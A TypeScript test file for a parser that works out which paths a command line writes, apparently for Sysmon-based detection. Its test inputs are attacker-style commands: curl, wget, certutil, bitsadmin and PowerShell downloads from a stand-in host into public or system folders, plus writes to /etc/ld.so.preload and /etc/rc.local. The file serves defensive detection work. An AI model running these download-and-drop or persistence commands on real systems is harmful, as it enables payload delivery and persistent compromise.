import { recordedPath, writtenPaths } from './program-writes';

const program = (commandLine: string, windows = true) => writtenPaths(commandLine, windows).program;

describe('the files a program is told to write', () => {
  it('reads downloads by curl (switch clusters too), wget, certutil, bitsadmin and PowerShell', () => {
    expect(program('curl -sLo C:\\Users\\Public\\quill.exe https://quill.example.net/q')).toEqual(['C:\\Users\\Public\\quill.exe']);
    expect(program('wget -O /opt/quill/agent https://quill.example.net/a', false)).toEqual(['/opt/quill/agent']);
    expect(program('certutil -urlcache -split -f http://quill.example.net/q.exe C:\\ProgramData\\q.exe')).toEqual([
      'C:\\ProgramData\\q.exe',
    ]);
    expect(program('bitsadmin /transfer j /download https://quill.example.net/q.dll %APPDATA%\\Quill\\q.dll')).toEqual([
      '%APPDATA%\\Quill\\q.dll',
    ]);
    // powershell.exe handed its code: the code's -OutFile.
    expect(program('powershell -c "Invoke-WebRequest -Uri https://quill.example.net/s.ps1 -OutFile $env:TEMP\\s.ps1"')).toEqual([
      '$env:TEMP\\s.ps1',
    ]);
  });

  it('reads where a copy or a move lands: a path, or a folder keeping the source name; not a wildcard source', () => {
    expect(program('copy \\\\files\\share\\quillsvc.exe C:\\ProgramData\\Quill\\')).toEqual(['C:\\ProgramData\\Quill\\quillsvc.exe']);
    expect(program('move /y quill.dll C:\\ProgramData\\Quill\\core.dll')).toEqual(['C:\\ProgramData\\Quill\\core.dll']);
    expect(program('Copy-Item -Path .\\q.exe -Destination C:\\Users\\Public\\q.exe')).toEqual(['C:\\Users\\Public\\q.exe']);
    expect(program('cp ./quill /usr/local/bin/', false)).toEqual(['/usr/local/bin/quill']);
    expect(program('copy *.exe C:\\ProgramData\\Quill\\')).toEqual([]);
    expect(program('tee -a /etc/ld.so.preload', false)).toEqual(['/etc/ld.so.preload']);
  });

  it('tells the shell redirection apart, and records paths as Sysmon writes them', () => {
    expect(writtenPaths('echo x >> /etc/rc.local', false)).toEqual({ program: [], shell: ['/etc/rc.local'] });
    expect(recordedPath('%TEMP%\\q.msi', true)).toBe('C:\\Users\\user\\AppData\\Local\\Temp\\q.msi');
    expect(recordedPath('q.msi', true)).toBeNull();
  });
});
